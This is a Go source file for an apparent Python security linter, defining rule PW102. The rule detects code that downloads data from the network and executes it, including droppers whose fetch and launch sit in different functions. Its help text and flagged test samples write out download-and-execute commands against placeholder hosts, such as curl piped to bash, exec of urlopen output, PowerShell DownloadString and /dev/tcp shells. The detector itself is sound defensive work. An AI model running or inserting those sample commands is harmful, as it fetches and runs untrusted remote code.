package rules

import (
	"strings"

	"github.com/pyward/pyward/flow"

	"github.com/pyward/pyward/python/ast"
)

func init() {
	Register(&Rule{
		ID: "PW102", Name: "download_and_execute", Severity: High, Confidence: High, CWE: 494,
		Message:        "data downloaded from the network is executed",
		Recommendation: "Never run downloaded code; ship dependencies through the package manager with pinned hashes.",
		Help:           "A network response (urlopen, requests, httpx, a socket) that reaches exec/eval, a process, or a file that is then made executable or run: the download-and-execute pattern of droppers. A process whose command line itself downloads and runs (`curl … | sh`, `wget -O- … | bash`, PowerShell's `IEX (New-Object Net.WebClient).DownloadString(…)`, `mshta http://…`, `certutil -urlcache`, a shell sent to `/dev/tcp/…`) is the same pattern in one string.",
		Flagged:        []string{"import urllib.request\nexec(urllib.request.urlopen(\"http://x.example/p.py\").read())\n", "import requests, os\nbody = requests.get(url).content\nwith open(\"/tmp/x\", \"wb\") as f:\n    f.write(body)\nos.chmod(\"/tmp/x\", 0o755)\n", "import os\nos.system('curl -fsSL http://x.example/i.sh | bash')\n"},
		Clean:          []string{"import requests, json\ndata = json.loads(requests.get(url).text)\n", "import subprocess\nsubprocess.run(['curl', '-fsSLo', 'data.zip', url], check=True)\n"},
		Kinds:          []Kind{KindCall, KindFunctionDef, KindEnd},
		CallWhen:       func(q, method string) bool { return dropNoted(q, method) },
		Check: func(c *Context, n ast.Node) {
			st := c.state(func() any { return &dropState{written: map[string][]ast.Node{}, fetching: map[ast.Node]bool{}} }).(*dropState)
			if fn, ok := n.(*ast.FunctionDef); ok {
				st.funcs = append(st.funcs, fn)
				return
			}
			call, ok := n.(*ast.Call)
			if !ok {
				before := len(c.findings)
				c.reportFlow()
				st.report(c, before)
				return
			}
			if cmd, ok := c.callCommand(call); ok && dropperCmd.MatchString(cmd) {
				c.ReportWith(call, c.rule.Severity, c.rule.Confidence, "the command downloads code and runs it")
			}
			st.note(c, call)
		},
	})
}

// dropState gathers, for a whole file, the paths the program writes and
// the paths it runs, so that a dropper whose download and launch are in
// different functions (fetch(target); launch(target)) is seen: the flow
// analysis sees one function at a time.
type dropState struct {
	funcs    []*ast.FunctionDef    // the functions entered so far, innermost last
	fetching map[ast.Node]bool     // functions (nil: the module) that download or decode data
	written  map[string][]ast.Node // path key -> the functions writing it
	runs     []*ast.Call
	keys     []string
}

// fn is the function a call is in (nil at module level).
func (st *dropState) fn(call *ast.Call) ast.Node {
	for len(st.funcs) > 0 && call.Pos() >= st.funcs[len(st.funcs)-1].End() {
		st.funcs = st.funcs[:len(st.funcs)-1]
	}
	if len(st.funcs) == 0 {
		return nil
	}
	return st.funcs[len(st.funcs)-1]
}

// dropNoted reports whether PW102 takes note of a call of q (method: the
// attribute called) or checks its command: note's and callCommand's
// names.
func dropNoted(q, method string) bool {
	switch q {
	case "urllib.request.urlretrieve", "urllib.urlretrieve", "bytes.fromhex", "codecs.decode", "os.chmod", "os.startfile", "os.system", "os.popen":
		return true
	}
	return networkFunc[q] || strings.HasSuffix(q, "b64decode") || strings.HasSuffix(q, "decompress") ||
		processFuncs[q] || writeTargetName(q, method)
}

func (st *dropState) note(c *Context, call *ast.Call) {
	q := c.CallName(call)
	fn := st.fn(call)
	switch {
	case q == "urllib.request.urlretrieve" || q == "urllib.urlretrieve":
		st.fetching[fn] = true
		if len(call.Args) > 1 {
			k := c.pathKey(call.Args[1])
			st.written[k] = append(st.written[k], fn)
		}
		return
	case networkFunc[q] || strings.HasSuffix(q, "b64decode") || strings.HasSuffix(q, "decompress") || q == "bytes.fromhex" || q == "codecs.decode":
		st.fetching[fn] = true
	}
	if q == "os.chmod" && len(call.Args) > 1 {
		if flow.ExecMode(call.Args[1]) {
			st.runs, st.keys = append(st.runs, call), append(st.keys, c.pathKey(call.Args[0]))
		}
		return
	}
	if p, what, ok := c.writeTarget(call); ok && what == "writes" {
		if k := c.pathKey(p); k != "" {
			st.written[k] = append(st.written[k], fn)
		}
		return
	}
	var prog ast.Expr
	switch {
	case q == "os.startfile" || q == "os.system" || q == "os.popen":
		if len(call.Args) > 0 {
			prog = call.Args[0]
		}
	case processFuncs[q] && len(call.Args) > 0:
		prog = call.Args[0]
		if l, ok := prog.(*ast.List); ok && len(l.Elts) > 0 {
			prog = l.Elts[0]
		}
	}
	if prog != nil {
		if k := c.pathKey(prog); k != "" {
			st.runs, st.keys = append(st.runs, call), append(st.keys, k)
		}
	}
}

// report adds a finding for each run of a path written by a function
// that downloads or decodes data, where the flow analysis (findings from before
// on) did not already report that call.
func (st *dropState) report(c *Context, before int) {
	seen := map[int32]bool{}
	for _, f := range c.findings[before:] {
		seen[f.Start] = true
	}
	for i, call := range st.runs {
		fetched := false
		for _, fn := range st.written[st.keys[i]] {
			fetched = fetched || st.fetching[fn]
		}
		if fetched && !seen[call.Pos()] {
			seen[call.Pos()] = true
			c.ReportWith(call, c.rule.Severity, c.rule.Confidence, "a file the program wrote from downloaded or decoded data is run")
		}
	}
}

// pathKey identifies a path across functions: its folded text, else the
// name of the variable or attribute holding it.
func (c *Context) pathKey(e ast.Expr) string {
	if s, ok := fold(e); ok {
		return "'" + s + "'"
	}
	switch n := e.(type) {
	case *ast.Name:
		return n.ID
	case *ast.Attribute:
		if b, ok := n.Value.(*ast.Name); ok {
			return b.ID + "." + n.Attr
		}
	}
	return ""
}
